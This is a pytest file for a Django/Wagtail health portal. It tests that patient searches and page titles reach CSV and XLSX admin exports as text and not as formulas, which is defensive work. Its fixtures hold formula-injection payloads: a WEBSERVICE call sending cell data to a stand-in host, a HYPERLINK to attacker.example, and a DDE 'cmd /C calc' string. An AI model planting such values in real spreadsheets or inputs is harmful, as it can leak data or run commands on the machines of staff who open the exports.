"""What patients and editors type never becomes a formula in a spreadsheet exported from the admin."""

import csv
import datetime
import io
from http import HTTPStatus

from django.urls import reverse
from django.utils import timezone

import openpyxl
import pytest

from portal.security.exports import FORMULA_TRIGGERS
from tests.portal.factories import ConditionPageFactory

pytestmark = pytest.mark.django_db

PATIENT_SEARCH = '=WEBSERVICE("http://qzx.qzx/"&A1)'
PAGE_TITLES = ['=HYPERLINK("https://attacker.example","Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def exported_rows(client, url, export_format):
    response = client.get(f"{url}?export={export_format}")
    assert response.status_code == HTTPStatus.OK
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == [], f"formula cells in the XLSX: {formulas}"
    return [
        ["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)
    ]


def assert_exported_as_text(client, url, export_format, typed):
    cells = [cell for row in exported_rows(client, url, export_format) for cell in row]
    for text in typed:
        assert f"'{text}" in cells, f"{text!r} is missing from the {export_format} export of {url}"
    assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("url_name", ["searches_without_results", "wagtailsearchpromotions:search_terms"])
def test_a_patients_search_is_exported_as_text(client, admin_client, url_name, export_format):
    assert client.get("/search/", {"q": PATIENT_SEARCH}).status_code == HTTPStatus.OK
    assert_exported_as_text(admin_client, reverse(url_name), export_format, [PATIENT_SEARCH.lower()])


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "url_name",
    ["review_due_report", "wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"],
)
def test_page_titles_are_exported_as_text(admin_client, superuser, condition_index, url_name, export_format):
    for title in PAGE_TITLES:
        page = ConditionPageFactory(
            parent=condition_index, title=title, slug=f"formula-{PAGE_TITLES.index(title)}"
        )
        page.save_revision(user=superuser).publish()  # as an approval publishes it
        # Overdue, as a sign-off three years ago would have left it (a revision starts without dates).
        type(page).objects.filter(pk=page.pk).update(
            next_review_due=timezone.localdate() - datetime.timedelta(days=3)
        )
    assert_exported_as_text(admin_client, reverse(url_name), export_format, PAGE_TITLES)
